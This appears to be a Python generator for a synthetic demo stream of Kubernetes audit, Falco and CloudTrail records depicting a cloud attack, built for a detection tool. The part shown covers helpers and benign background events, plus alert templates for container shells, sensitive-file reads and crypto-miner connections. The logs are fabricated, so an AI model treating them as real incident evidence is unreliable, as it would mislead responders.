#!/usr/bin/env python3
"""Generates attack-story.jsonl: Tuttle's bundled demo stream.

One JSON record per line, in the native shapes the platforms emit (Kubernetes audit events, Falco
JSON alerts, single AWS CloudTrail records), mixed in one stream and ordered by event time, with a
few records delivered up to 10 s late and exactly one truncated line. About 90 minutes of a
working morning on 2026-03-14 in a small EKS-style cluster and its AWS account, with one attacker
(203.0.113.45) walking through the story told in README.md.

Deterministic: a fixed seed and a fixed base time, no wall clock, no hash-ordered containers.
Running it again rewrites the file byte for byte.

    python3 ingest/samples/generate_attack_story.py            # rewrites attack-story.jsonl
    python3 ingest/samples/generate_attack_story.py --stdout   # prints instead

Addresses are documentation ranges (RFC 5737): 198.51.100.0/24 is the company (office, CI NAT,
monitoring SaaS), 203.0.113.45 the attacker, 192.0.2.0/24 the attacker's payload host and mining
pool and an Internet scanner. The AWS account id and every key id are made up.
"""

import argparse
import base64
import datetime as dt
import json
import os
import random
import sys
import uuid

SEED = 20260314
BASE = dt.datetime(2026, 3, 14, 9, 0, 0, tzinfo=dt.timezone.utc)
BASE_NS = int(BASE.timestamp()) * 1_000_000_000
OUT_NAME = "attack-story.jsonl"

ACCOUNT = "418277365921"
REGION = "eu-west-1"
ATTACKER_IP = "203.0.113.45"
OFFICE = {"dev-alice": "198.51.100.23", "dev-bob": "198.51.100.31", "dev-carol": "198.51.100.42"}
CI_NAT_IP = "198.51.100.200"
MONITORING_IP = "198.51.100.150"
SCANNER_IP = "192.0.2.201"
PAYLOAD_HOST = "192.0.2.10"
POOL_IP = "192.0.2.66"
API_SERVER_SVC_IP = "172.20.0.1"
CONTROL_PLANE_IP = "10.0.1.10"
K8S_VERSION = "v1.29.2"
K8S_COMMIT = "4b8e819"

rng = random.Random(SEED)


# --------------------------------------------------------------------------------------------
# Time and ids


def ns(minute, second=0.0):
    """Event time `minute`:`second` after 09:00:00Z, as integer nanoseconds since the epoch."""
    return BASE_NS + int(round((minute * 60 + second) * 1e9))


def iso_us(t):
    sec, frac = divmod(t, 1_000_000_000)
    d = dt.datetime.fromtimestamp(sec, dt.timezone.utc)
    return d.strftime("%Y-%m-%dT%H:%M:%S.") + "%06dZ" % (frac // 1000)


def iso_ns(t):
    sec, frac = divmod(t, 1_000_000_000)
    d = dt.datetime.fromtimestamp(sec, dt.timezone.utc)
    return d.strftime("%Y-%m-%dT%H:%M:%S.") + "%09dZ" % frac


def iso_s(t):
    d = dt.datetime.fromtimestamp(t // 1_000_000_000, dt.timezone.utc)
    return d.strftime("%Y-%m-%dT%H:%M:%SZ")


def clock_ns(t):
    sec, frac = divmod(t, 1_000_000_000)
    d = dt.datetime.fromtimestamp(sec, dt.timezone.utc)
    return d.strftime("%H:%M:%S.") + "%09d" % frac


def new_uuid():
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


def hexid(n):
    return "".join(rng.choice("0123456789abcdef") for _ in range(n))


def alnum(n, alphabet="bcdfghjklmnpqrstvwxz2456789"):
    return "".join(rng.choice(alphabet) for _ in range(n))


def upper_id(prefix, n=16):
    return prefix + "".join(rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567") for _ in range(n))


# --------------------------------------------------------------------------------------------
# The stream: records with their event time and a delivery delay (late arrivals)


class Stream:
    def __init__(self):
        self.items = []  # (delivery_ns, event_ns, seq, text, note)
        self.seq = 0

    def add(self, event_ns, obj, note="", delay_ns=0):
        text = json.dumps(obj, separators=(",", ":"), ensure_ascii=False)
        self.add_text(event_ns, text, note, delay_ns)

    def add_text(self, event_ns, text, note="", delay_ns=0):
        self.items.append((event_ns + delay_ns, event_ns, self.seq, text, note))
        self.seq += 1

    def lines(self):
        return [item[3] for item in sorted(self.items, key=lambda i: (i[0], i[1], i[2]))]


S = Stream()

# --------------------------------------------------------------------------------------------
# Cluster inventory

NODES = {
    "ip-10-0-12-57": "10.0.12.57",
    "ip-10-0-21-9": "10.0.21.9",
    "ip-10-0-34-112": "10.0.34.112",
}
NEW_NODE = ("ip-10-0-47-201", "10.0.47.201")  # joins at 09:57 (cluster autoscaler scale-up)
NODE_DOMAIN = ".eu-west-1.compute.internal"


def fqdn(node):
    return node + NODE_DOMAIN


ECR = f"{ACCOUNT}.dkr.ecr.{REGION}.amazonaws.com"

# namespace/pod -> container facts used by Falco records
PODS = {
    "checkout": dict(ns="payments", pod="checkout-7d9f6b5c8-x2kqp", container="checkout",
                     repo=f"{ECR}/payments/checkout", tag="v2.14.3", node="ip-10-0-34-112",
                     ip="10.0.34.187", cid="3f2a9c1d7b4e"),
    "web": dict(ns="storefront", pod="web-5c6d8f7b9-qtz7m", container="web",
                repo=f"{ECR}/storefront/web", tag="v5.3.0", node="ip-10-0-12-57",
                ip="10.0.12.203", cid="8b41e07c2d95"),
    "flags": dict(ns="storefront", pod="feature-flags-sync-6f7b8c9d5-h2jkl", container="sync",
                  repo=f"{ECR}/storefront/feature-flags-sync", tag="v1.2.0", node="ip-10-0-21-9",
                  ip="10.0.21.144", cid="c07d5a9e31f2"),
    "builder": dict(ns="ci", pod="build-runner-7c6d5-k9wq2", container="runner",
                    repo=f"{ECR}/ci/build-runner", tag="2026.03", node="ip-10-0-12-57",
                    ip="10.0.12.88", cid="5e9a2b7c41d0"),
    "debugger": dict(ns="kube-system", pod="node-debugger-ip-10-0-21-9-x7k2p", container="debugger",
                     repo="docker.io/library/alpine", tag="3.19", node="ip-10-0-21-9",
                     ip="10.0.21.9", cid="9d3e6f1a0b27"),
}
for _node in list(NODES) + [NEW_NODE[0]]:
    PODS["aws-node@" + _node] = dict(
        ns="kube-system", pod="aws-node-" + alnum(5), container="aws-node",
        repo="602401143452.dkr.ecr.eu-west-1.amazonaws.com/amazon-k8s-cni", tag="v1.16.4",
        node=_node, ip=NODES.get(_node, NEW_NODE[1]), cid=hexid(12))
    PODS["kube-proxy@" + _node] = dict(
        ns="kube-system", pod="kube-proxy-" + alnum(5), container="kube-proxy",
        repo="602401143452.dkr.ecr.eu-west-1.amazonaws.com/eks/kube-proxy",
        tag="v1.29.1-minimal-eksbuild.2", node=_node, ip=NODES.get(_node, NEW_NODE[1]),
        cid=hexid(12))

# --------------------------------------------------------------------------------------------
# Kubernetes audit events

DEVS = {
    "dev-alice": {"username": "dev-alice", "groups": ["developers", "system:authenticated"]},
    "dev-bob": {"username": "dev-bob", "groups": ["developers", "system:authenticated"]},
    "dev-carol": {"username": "dev-carol", "groups": ["developers", "system:authenticated"]},
}
KUBECTL_DARWIN = f"kubectl/{K8S_VERSION} (darwin/arm64) kubernetes/{K8S_COMMIT}"
KUBECTL_LINUX = f"kubectl/{K8S_VERSION} (linux/amd64) kubernetes/{K8S_COMMIT}"
ATTACKER_KUBECTL = "kubectl/v1.28.4 (linux/amd64) kubernetes/bae2c62"

SA_UIDS = {}


def sa_user(namespace, name, pod=None):
    key = f"{namespace}:{name}"
    if key not in SA_UIDS:
        SA_UIDS[key] = new_uuid()
    user = {
        "username": f"system:serviceaccount:{namespace}:{name}",
        "uid": SA_UIDS[key],
        "groups": ["system:serviceaccounts", f"system:serviceaccounts:{namespace}",
                   "system:authenticated"],
    }
    if pod is not None:
        user["extra"] = {
            "authentication.kubernetes.io/credential-id": ["JTI=" + new_uuid()],
            "authentication.kubernetes.io/node-name": [fqdn(pod["node"])],
            "authentication.kubernetes.io/node-uid": [new_uuid()],
            "authentication.kubernetes.io/pod-name": [pod["pod"]],
            "authentication.kubernetes.io/pod-uid": [new_uuid()],
        }
    return user


def node_user(node):
    return {"username": f"system:node:{fqdn(node)}", "groups": ["system:nodes", "system:authenticated"]}


CM_USER = {"username": "system:kube-controller-manager", "groups": ["system:authenticated"]}
SCHED_USER = {"username": "system:kube-scheduler", "groups": ["system:authenticated"]}
ANON_USER = {"username": "system:anonymous", "groups": ["system:unauthenticated"]}

CORE_GROUPS = {  # resource -> (apiGroup, apiVersion)
    "pods": ("", "v1"), "configmaps": ("", "v1"), "secrets": ("", "v1"), "nodes": ("", "v1"),
    "namespaces": ("", "v1"), "services": ("", "v1"), "endpoints": ("", "v1"),
    "serviceaccounts": ("", "v1"), "events": ("", "v1"), "persistentvolumes": ("", "v1"),
    "leases": ("coordination.k8s.io", "v1"), "deployments": ("apps", "v1"),
    "replicasets": ("apps", "v1"), "daemonsets": ("apps", "v1"),
    "endpointslices": ("discovery.k8s.io", "v1"),
    "clusterroles": ("rbac.authorization.k8s.io", "v1"),
    "clusterrolebindings": ("rbac.authorization.k8s.io", "v1"),
    "selfsubjectrulesreviews": ("authorization.k8s.io", "v1"),
    "customresourcedefinitions": ("apiextensions.k8s.io", "v1"),
    "certificatesigningrequests": ("certificates.k8s.io", "v1"),
    "cronjobs": ("batch", "v1"), "jobs": ("batch", "v1"),
}


def object_ref(resource, namespace=None, name=None, subresource=None):
    group, version = CORE_GROUPS[resource]
    ref = {"resource": resource}
    if namespace:
        ref["namespace"] = namespace
    if name:
        ref["name"] = name
    if subresource:
        ref["subresource"] = subresource
    if group:
        ref["apiGroup"] = group
    ref["apiVersion"] = version
    return ref


def uri_for(verb, resource, namespace=None, name=None, subresource=None, query=None):
    group, version = CORE_GROUPS[resource]
    prefix = f"/apis/{group}/{version}" if group else f"/api/{version}"
    path = prefix
    if namespace:
        path += f"/namespaces/{namespace}"
    path += f"/{resource}"
    if name and (verb != "create" or subresource):  # a create posts to the collection
        path += f"/{name}"
    if subresource:
        path += f"/{subresource}"
    if query is None:  # what kubectl and client-go send by default
        query = "limit=500" if verb == "list" else ""
    if verb == "watch":
        query = (query + "&" if query else "") + "allowWatchBookmarks=true&watch=true"
    return path + ("?" + query if query else "")


def rbac_reason(kind, binding, role, subject, role_kind="ClusterRole"):
    """The authorizer's reason. RoleBinding names read "name/namespace"; "{ns}" is filled in
    with the request's namespace."""
    return f'RBAC: allowed by {kind} "{binding}" of {role_kind} "{role}" to {subject}'


def forbidden_status(user, verb, resource, namespace=None, name=None):
    group = CORE_GROUPS[resource][0]
    qualified = f"{resource}.{group}" if group else resource
    what = f'{qualified} "{name}"' if name else qualified
    scope = f'in the namespace "{namespace}"' if namespace else "at the cluster scope"
    details = {}
    if name:
        details["name"] = name
    if group:
        details["group"] = group
    details["kind"] = resource
    return {
        "metadata": {},
        "status": "Failure",
        "message": f'{what} is forbidden: User "{user}" cannot {verb} resource "{resource}" '
                   f'in API group "{group}" {scope}',
        "reason": "Forbidden",
        "details": details,
        "code": 403,
    }


def k8s_event(t, verb, user, source_ip, user_agent, resource=None, namespace=None, name=None,
              subresource=None, code=200, level="Metadata", reason="", decision="allow",
              query=None, request_object=None, response_object=None, status=None, uri=None,
              stage="ResponseComplete", latency_us=None, extra_annotations=None, note="",
              delay_ns=0):
    """One audit.k8s.io/v1 Event whose stageTimestamp (its event time) is `t`."""
    t -= t % 1000  # the API server writes microseconds
    if t % 1_000_000 == 0:
        t += rng.randrange(1, 1000) * 1000
    if latency_us is None:
        latency_us = rng.randrange(1500, 9000) if verb not in ("watch",) else 0
    received = t - latency_us * 1000
    if verb == "watch":
        received = t - rng.randrange(300, 600) * 1_000_000_000  # a watch ends after minutes
    ev = {
        "kind": "Event",
        "apiVersion": "audit.k8s.io/v1",
        "level": level,
        "auditID": new_uuid(),
        "stage": stage,
        "requestURI": uri or uri_for(verb, resource, namespace, name, subresource, query),
        "verb": verb,
        "user": user,
        "sourceIPs": [source_ip],
        "userAgent": user_agent,
    }
    if resource:
        ev["objectRef"] = object_ref(resource, namespace, name, subresource)
    if status is not None:
        ev["responseStatus"] = status
    elif code == 403:
        ev["responseStatus"] = forbidden_status(user["username"], verb, resource, namespace, name)
    else:
        ev["responseStatus"] = {"metadata": {}, "code": code}
    if request_object is not None:
        ev["requestObject"] = request_object
    if response_object is not None:
        ev["responseObject"] = response_object
    ev["requestReceivedTimestamp"] = iso_us(received)
    ev["stageTimestamp"] = iso_us(t)
    annotations = {
        "authorization.k8s.io/decision": "forbid" if code == 403 else decision,
        "authorization.k8s.io/reason": "" if code == 403 else reason.replace("{ns}", namespace or ""),
    }
    if extra_annotations:
        annotations.update(extra_annotations)
    ev["annotations"] = annotations
    S.add(t, ev, note, delay_ns)
    return ev


# --------------------------------------------------------------------------------------------
# Pod specs (requestObject / responseObject of pod creations)


def container_spec(name, image, command=None, privileged=None, mounts=None, ports=None, env=None):
    c = {"name": name, "image": image}
    if command:
        c["command"] = command
    if ports:
        c["ports"] = [{"containerPort": p, "protocol": "TCP"} for p in ports]
    if env:
        c["env"] = env
    c["resources"] = {}
    if mounts:
        c["volumeMounts"] = mounts
    c["terminationMessagePath"] = "/dev/termination-log"
    c["terminationMessagePolicy"] = "File"
    c["imagePullPolicy"] = "IfNotPresent"
    if privileged is not None:
        c["securityContext"] = {"privileged": privileged}
    else:
        c["securityContext"] = {"allowPrivilegeEscalation": False, "runAsNonRoot": True,
                                "capabilities": {"drop": ["ALL"]}}
    return c


def pod_object(name, namespace, containers, volumes=None, labels=None, owner=None,
               service_account="default", node_name=None, host=False, generate_name=None,
               tolerations=None):
    meta = {}
    if generate_name:
        meta["generateName"] = generate_name
    else:
        meta["name"] = name
    meta["namespace"] = namespace
    meta["creationTimestamp"] = None
    if labels:
        meta["labels"] = labels
    if owner:
        meta["ownerReferences"] = [owner]
    spec = {}
    if volumes:
        spec["volumes"] = volumes
    spec["containers"] = containers
    spec["restartPolicy"] = "Always" if owner else "Never"
    spec["terminationGracePeriodSeconds"] = 30
    spec["dnsPolicy"] = "ClusterFirst"
    spec["serviceAccountName"] = service_account
    if node_name:
        spec["nodeName"] = node_name
    if host:
        spec["hostNetwork"] = True
        spec["hostPID"] = True
        spec["hostIPC"] = True
    spec["securityContext"] = {}
    spec["schedulerName"] = "default-scheduler"
    if tolerations:
        spec["tolerations"] = tolerations
    spec["priority"] = 0
    spec["enableServiceLinks"] = True
    spec["preemptionPolicy"] = "PreemptLowerPriority"
    return {"kind": "Pod", "apiVersion": "v1", "metadata": meta, "spec": spec, "status": {}}


def pod_response(request, name, t, node_name=None):
    resp = json.loads(json.dumps(request))
    meta = resp["metadata"]
    meta["name"] = name
    meta["uid"] = new_uuid()
    meta["resourceVersion"] = str(rng.randrange(48_000_000, 49_000_000))
    meta["creationTimestamp"] = iso_s(t)
    ordered = {"name": name}
    for k, v in meta.items():
        if k != "name":
            ordered[k] = v
    resp["metadata"] = ordered
    token_vol = {"name": "kube-api-access-" + alnum(5), "projected": {
        "sources": [{"serviceAccountToken": {"expirationSeconds": 3607, "path": "token"}},
                    {"configMap": {"name": "kube-root-ca.crt",
                                   "items": [{"key": "ca.crt", "path": "ca.crt"}]}}],
        "defaultMode": 420}}
    resp["spec"].setdefault("volumes", []).append(token_vol)
    for c in resp["spec"]["containers"]:
        c.setdefault("volumeMounts", []).append(
            {"name": token_vol["name"], "readOnly": True,
             "mountPath": "/var/run/secrets/kubernetes.io/serviceaccount"})
    resp["spec"]["serviceAccount"] = resp["spec"]["serviceAccountName"]
    if node_name:
        resp["spec"]["nodeName"] = node_name
    resp["status"] = {"phase": "Pending", "qosClass": "BestEffort"}
    return resp


# --------------------------------------------------------------------------------------------
# Falco alerts


def falco_event(t, rule, priority, pod, message, fields, tags, note="", delay_ns=0):
    """A Falco JSON alert (json_output: true, json_include_output_property: true)."""
    if t % 1000 == 0:
        t += rng.randrange(1, 1000)  # Falco stamps events in nanoseconds
    of = {
        "container.id": pod["cid"],
        "container.image.repository": pod["repo"],
        "container.image.tag": pod["tag"],
        "container.name": pod["container"],
        "evt.time": t,
        "k8s.ns.name": pod["ns"],
        "k8s.pod.name": pod["pod"],
    }
    of.update(fields)
    info = (f"container_id={pod['cid']} container_image={pod['repo']} "
            f"container_image_tag={pod['tag']} container_name={pod['container']} "
            f"k8s_ns={pod['ns']} k8s_pod_name={pod['pod']}")
    ev = {
        "hostname": fqdn(pod["node"]),
        "output": f"{clock_ns(t)}: {priority} {message} {info})",
        "output_fields": dict(sorted(of.items())),
        "priority": priority,
        "rule": rule,
        "source": "syscall",
        "tags": sorted(tags),
        "time": iso_ns(t),
    }
    S.add(t, ev, note, delay_ns)
    return ev


def proc_fields(name, exepath, cmdline, pname, user="root", uid=0, tty=0, evt_type="execve",
                flags=None):
    f = {
        "evt.type": evt_type,
        "proc.cmdline": cmdline,
        "proc.exepath": exepath,
        "proc.name": name,
        "proc.pname": pname,
        "proc.tty": tty,
        "user.loginuid": -1,
        "user.name": user,
        "user.uid": uid,
    }
    if flags is not None:
        f["evt.arg.flags"] = flags
    return f


def proc_message(f):
    return (f"evt_type={f['evt.type']} user={f['user.name']} user_uid={f['user.uid']} "
            f"user_loginuid={f['user.loginuid']} process={f['proc.name']} "
            f"proc_exepath={f['proc.exepath']} parent={f['proc.pname']} "
            f"command={f['proc.cmdline']} terminal={f['proc.tty']}")


def falco_shell(t, pod, shell, note="", delay_ns=0):
    f = proc_fields(shell, "/bin/" + shell, shell, "runc", tty=34816, flags="EXE_WRITABLE")
    msg = ("A shell was spawned in a container with an attached terminal (" + proc_message(f)
           + " exe_flags=EXE_WRITABLE")
    return falco_event(t, "Terminal shell in container", "Notice", pod, msg, f,
                       ["maturity_stable", "container", "shell", "mitre_execution", "T1059"],
                       note, delay_ns)


def falco_read_sensitive(t, pod, path, cmdline, name, pname, note="", delay_ns=0):
    f = proc_fields(name, "/bin/busybox", cmdline, pname, tty=34816, evt_type="openat",
                    flags="O_RDONLY")
    f["fd.name"] = path
    f["proc.aname[2]"] = "runc"
    f["proc.aname[3]"] = "containerd-shim"
    f["proc.aname[4]"] = "systemd"
    msg = (f"Sensitive file opened for reading by non-trusted program (file={path} "
           f"gparent=runc ggparent=containerd-shim gggparent=systemd " + proc_message(f))
    return falco_event(t, "Read sensitive file untrusted", "Warning", pod, msg, f,
                       ["maturity_stable", "host", "container", "filesystem",
                        "mitre_credential_access", "T1555"], note, delay_ns)


def falco_connection(t, rule, priority, pod, proc, lport, rip, rport, message, tags, note="",
                     delay_ns=0):
    f = dict(proc)
    f["evt.type"] = "connect"
    f["fd.name"] = f"{pod['ip']}:{lport}->{rip}:{rport}"
    f["fd.lport"] = lport
    f["fd.rip"] = rip
    f["fd.rport"] = rport
    f["fd.type"] = "ipv4"
    f["fd.l4proto"] = "tcp"
    msg = (f"{message} (connection={f['fd.name']} lport={lport} rport={rport} fd_type=ipv4 "
           f"fd_proto=tcp " + proc_message(f))
    if rule.startswith("Detect outbound connections to common miner"):
        msg = (f"{message} (ip={rip} port={rport} connection={f['fd.name']} lport={lport} "
               f"rport={rport} fd_type=ipv4 fd_proto=tcp " + proc_message(f))
    return falco_event(t, rule, priority, pod, msg, f, tags, note, delay_ns)


# --------------------------------------------------------------------------------------------
# CloudTrail records


def iam_user_identity(user, key_id, principal_id):
    return {
        "type": "IAMUser",
        "principalId": principal_id,
        "arn": f"arn:aws:iam::{ACCOUNT}:user/{user}",
        "accountId": ACCOUNT,
        "accessKeyId": key_id,
        "userName": user,
    }


def role_identity(role, session, role_id, key_id, created_ns, mfa=False):
    return {
        "type": "AssumedRole",
        "principalId": f"{role_id}:{session}",
        "arn": f"arn:aws:sts::{ACCOUNT}:assumed-role/{role}/{session}",
        "accountId": ACCOUNT,
        "accessKeyId": key_id,
        "sessionContext": {
            "sessionIssuer": {
                "type": "Role",
                "principalId": role_id,
                "arn": f"arn:aws:iam::{ACCOUNT}:role/{role.split('/')[-1]}",
                "accountId": ACCOUNT,
                "userName": role.split("/")[-1],
            },
            "webIdFederationData": {},
            "attributes": {"creationDate": iso_s(created_ns), "mfaAuthenticated": str(mfa).lower()},
        },
    }


READ_ONLY_PREFIXES = ("Get", "List", "Describe", "BatchGet", "Head", "Lookup")


def cloudtrail(t, identity, source, name, ip, user_agent, request=None, response=None,
               error=None, region=REGION, read_only=None, data_event=False, resources=None,
               host=None, note="", delay_ns=0):
    """One CloudTrail record as delivered to a stream (no Records batch)."""
    t -= t % 1_000_000_000  # CloudTrail writes whole seconds
    if read_only is None:
        read_only = name.startswith(READ_ONLY_PREFIXES)
    ev = {
        "eventVersion": "1.09" if data_event else "1.08",
        "userIdentity": identity,
        "eventTime": iso_s(t),
        "eventSource": source,
        "eventName": name,
        "awsRegion": region,
        "sourceIPAddress": ip,
        "userAgent": user_agent,
    }
    if error:
        ev["errorCode"], ev["errorMessage"] = error
    ev["requestParameters"] = request
    ev["responseElements"] = response
    ev["requestID"] = new_uuid()
    ev["eventID"] = new_uuid()
    ev["readOnly"] = read_only
    if resources:
        ev["resources"] = resources
    ev["eventType"] = "AwsApiCall"
    ev["managementEvent"] = not data_event
    ev["recipientAccountId"] = ACCOUNT
    ev["eventCategory"] = "Data" if data_event else "Management"
    if host is None:
        service = source.split(".")[0]
        host = f"{service}.amazonaws.com" if service in ("iam",) else f"{service}.{region}.amazonaws.com"
    ev["tlsDetails"] = {"tlsVersion": "TLSv1.3", "cipherSuite": "TLS_AES_128_GCM_SHA256",
                        "clientProvidedHostHeader": host}
    S.add(t, ev, note, delay_ns)
    return ev


def cli_ua(command, platform="Linux/6.5.0-1016-aws exe/x86_64.ubuntu.22"):
    return f"aws-cli/2.15.30 Python/3.11.8 {platform} prompt/off command/{command}"


ATTACKER_CLI_PLATFORM = "Linux/6.6.9-amd64 exe/x86_64.kali.2024"
BOTO_UA = ("Boto3/1.34.51 md/Botocore#1.34.51 ua/2.0 os/linux#6.6.9-amd64 md/arch#x86_64 "
           "lang/python#3.11.8 md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.34.51")
DATADOG_UA = "aws-sdk-go/1.50.8 (go1.21.6; linux; amd64) datadog-aws-integration"

CI_USER = iam_user_identity("ci-lambda-deployer", upper_id("AKIA"), upper_id("AIDA", 17))
RUNNER_ROLE_ID = upper_id("AROA", 17)
RUNNER_IDENTITY = role_identity("gha-runner-instance", "i-0c4f2a9be71d35e08", RUNNER_ROLE_ID,
                                upper_id("ASIA"), ns(-45))
TERRAFORM_IDENTITY = role_identity("terraform-apply", "gha-run-8241973344", upper_id("AROA", 17),
                                   upper_id("ASIA"), ns(47, 40))
DATADOG_IDENTITY = role_identity("datadog-integration-role", "datadog-aws-integration",
                                 upper_id("AROA", 17), upper_id("ASIA"), ns(-20))
NODE_ROLE_ID = upper_id("AROA", 17)
DEV_SSO_IDENTITY = role_identity("aws-reserved/sso.amazonaws.com/eu-west-1/"
                                 "AWSReservedSSO_DeveloperAccess_3f1c0d8e2a9b4c76",
                                 "dev-carol@corp.example", upper_id("AROA", 17),
                                 upper_id("ASIA"), ns(-30), mfa=True)
DEV_SSO_IDENTITY["arn"] = (f"arn:aws:sts::{ACCOUNT}:assumed-role/"
                           "AWSReservedSSO_DeveloperAccess_3f1c0d8e2a9b4c76/dev-carol@corp.example")
WEBHOOK_ROLE_IDENTITY = role_identity("payments-webhook-exec", "payments-webhook",
                                      upper_id("AROA", 17), upper_id("ASIA"), ns(-10))


def node_identity(instance):
    return role_identity("eks-node-group-role", instance, NODE_ROLE_ID, upper_id("ASIA"), ns(-60))


def lambda_arn(fn):
    return f"arn:aws:lambda:{REGION}:{ACCOUNT}:function:{fn}"


def function_config(fn, t, runtime="python3.12", code_size=48213, state="Active",
                    update_status="InProgress"):
    return {
        "functionName": fn,
        "functionArn": lambda_arn(fn),
        "runtime": runtime,
        "role": f"arn:aws:iam::{ACCOUNT}:role/{fn}-exec",
        "handler": "app.handler",
        "codeSize": code_size,
        "description": "Stripe webhook receiver" if fn == "payments-webhook" else "",
        "timeout": 30,
        "memorySize": 256,
        "lastModified": iso_us(t)[:-4] + "+0000",
        "codeSha256": base64.b64encode(rng.getrandbits(256).to_bytes(32, "big")).decode(),
        "version": "$LATEST",
        "tracingConfig": {"mode": "PassThrough"},
        "revisionId": new_uuid(),
        "state": state,
        "lastUpdateStatus": update_status,
        "packageType": "Zip",
        "architectures": ["x86_64"],
        "ephemeralStorage": {"size": 512},
        "loggingConfig": {"logFormat": "Text", "logGroup": f"/aws/lambda/{fn}"},
    }


def fq_arn(fn):
    return {"arnPrefix": {"partition": "aws", "region": REGION, "account": ACCOUNT},
            "relativeId": {"functionName": fn}}


def denied_message(arn, action, resource, reason="no identity-based policy allows the {a} action"):
    return (f"User: {arn} is not authorized to perform: {action} on resource: {resource} "
            f"because " + reason.format(a=action))


# ============================================================================================
# Benign background
# ============================================================================================


def times_every(start_min, end_min, period_s, jitter_s):
    """Regular times with jitter, as integer ns."""
    out = []
    t = ns(start_min) + rng.randrange(0, int(period_s * 1e6)) * 1000
    end = ns(end_min)
    while t < end:
        out.append(t + rng.randrange(0, int(jitter_s * 1e6) + 1) * 1000)
        t += int(period_s * 1e9)
    return out


def random_times(count, start_min=0, end_min=90):
    lo, hi = ns(start_min), ns(end_min)
    return sorted(lo + rng.randrange(0, (hi - lo) // 1000) * 1000 for _ in range(count))


def background_control_plane():
    cm_ua = f"kube-controller-manager/{K8S_VERSION} (linux/amd64) kubernetes/{K8S_COMMIT}/leader-election"
    sched_ua = f"kube-scheduler/{K8S_VERSION} (linux/amd64) kubernetes/{K8S_COMMIT}/leader-election"
    for t in times_every(0, 90, 125, 3):
        k8s_event(t, "update", CM_USER, CONTROL_PLANE_IP, cm_ua, "leases", "kube-system",
                  "kube-controller-manager",
                  reason=rbac_reason("ClusterRoleBinding", "system:kube-controller-manager",
                                     "system:kube-controller-manager",
                                     'User "system:kube-controller-manager"'))
    for t in times_every(0, 90, 160, 3):
        k8s_event(t, "update", SCHED_USER, CONTROL_PLANE_IP, sched_ua, "leases", "kube-system",
                  "kube-scheduler",
                  reason=rbac_reason("ClusterRoleBinding", "system:kube-scheduler",
                                     "system:kube-scheduler", 'User "system:kube-scheduler"'))
    controllers = [
        ("endpointslice-controller", "update", "endpointslices", ["payments", "storefront", "monitoring"]),
        ("generic-garbage-collector", "list", "replicasets", [None]),
        ("resourcequota-controller", "list", "pods", ["payments", "storefront"]),
        ("node-controller", "list", "nodes", [None]),
        ("horizontal-pod-autoscaler", "get", "deployments", ["storefront"]),
    ]
    for t in random_times(34):
        name, verb, resource, namespaces = rng.choice(controllers)
        namespace = rng.choice(namespaces)
        obj_name = None
        if verb in ("update", "get"):
            obj_name = {"endpointslices": rng.choice(["checkout-", "web-", "ledger-", "prometheus-"])
                        + alnum(5), "deployments": "web"}[resource]
        ua = (f"kube-controller-manager/{K8S_VERSION} (linux/amd64) kubernetes/{K8S_COMMIT}/"
              f"system:serviceaccount:kube-system:{name}")
        k8s_event(t, verb, sa_user("kube-system", name), CONTROL_PLANE_IP, ua, resource,
                  namespace, obj_name,
                  reason=rbac_reason("ClusterRoleBinding", f"system:controller:{name}",
                                     f"system:controller:{name}",
                                     f'ServiceAccount "{name}/kube-system"'))


def background_kubelets():
    kubelet_ua = f"kubelet/{K8S_VERSION} (linux/amd64) kubernetes/{K8S_COMMIT}"
    all_nodes = list(NODES.items())
    for node, ip in all_nodes + [NEW_NODE]:
        start = 58.2 if node == NEW_NODE[0] else 0
        for t in times_every(start, 90, 300, 2):
            k8s_event(t, "update", node_user(node), ip, kubelet_ua, "leases", "kube-node-lease",
                      fqdn(node), reason="")
        for t in times_every(start, 90, 450, 5):
            k8s_event(t, "patch", node_user(node), ip, kubelet_ua, "nodes", None, fqdn(node),
                      subresource="status", reason="")
        for t in random_times(6 if node != NEW_NODE[0] else 3, start, 90):
            choice = rng.randrange(3)
            if choice == 0:
                k8s_event(t, "get", node_user(node), ip, kubelet_ua, "nodes", None, fqdn(node),
                          query="resourceVersion=0&timeout=10s", reason="")
            elif choice == 1:
                k8s_event(t, "watch", node_user(node), ip, kubelet_ua, "configmaps",
                          rng.choice(["payments", "storefront", "kube-system", "monitoring"]),
                          query="fieldSelector=metadata.name%3Dkube-root-ca.crt&resourceVersion="
                                + str(rng.randrange(48_000_000, 49_000_000)) + "&timeout=7m31s"
                                "&timeoutSeconds=451",
                          reason="")
            else:
                k8s_event(t, "list", node_user(node), ip, kubelet_ua, "pods", None,
                          query="fieldSelector=spec.nodeName%3D" + fqdn(node) + "&limit=500"
                                "&resourceVersion=0", reason="")


def background_platform_services():
    # CoreDNS, Prometheus, kube-state-metrics, cert-manager, external-secrets.
    coredns = sa_user("kube-system", "coredns")
    for t in random_times(11):
        resource = rng.choice(["endpointslices", "services", "namespaces"])
        k8s_event(t, "watch", coredns, "10.0.21.77", "coredns/v0.0.0 (linux/amd64) kubernetes/$Format",
                  resource, None,
                  query="resourceVersion=" + str(rng.randrange(48_000_000, 49_000_000))
                        + "&timeout=8m12s&timeoutSeconds=492",
                  reason=rbac_reason("ClusterRoleBinding", "system:coredns", "system:coredns",
                                     'ServiceAccount "coredns/kube-system"'))
    prom = sa_user("monitoring", "prometheus-k8s")
    prom_reason = rbac_reason("ClusterRoleBinding", "prometheus-k8s", "prometheus-k8s",
                              'ServiceAccount "prometheus-k8s/monitoring"')
    for t in random_times(24):
        if rng.random() < 0.5:
            node = rng.choice(list(NODES))
            k8s_event(t, "get", prom, "10.0.34.41", "Prometheus/2.50.1", "nodes", None, fqdn(node),
                      subresource="proxy", uri=f"/api/v1/nodes/{fqdn(node)}/proxy/metrics",
                      reason=prom_reason)
        else:
            resource = rng.choice(["pods", "endpoints", "services"])
            k8s_event(t, "list", prom, "10.0.34.41", "Prometheus/2.50.1", resource,
                      rng.choice(["payments", "storefront", "monitoring", "kube-system"]),
                      query="limit=500&resourceVersion=0", reason=prom_reason)
    ksm = sa_user("monitoring", "kube-state-metrics")
    for t in random_times(11):
        k8s_event(t, "list", ksm, "10.0.12.66", "kube-state-metrics/v2.10.1 (linux/amd64) kubernetes/$Format",
                  rng.choice(["pods", "deployments", "nodes", "configmaps"]), None,
                  query="limit=500&resourceVersion=0",
                  reason=rbac_reason("ClusterRoleBinding", "kube-state-metrics",
                                     "kube-state-metrics",
                                     'ServiceAccount "kube-state-metrics/monitoring"'))
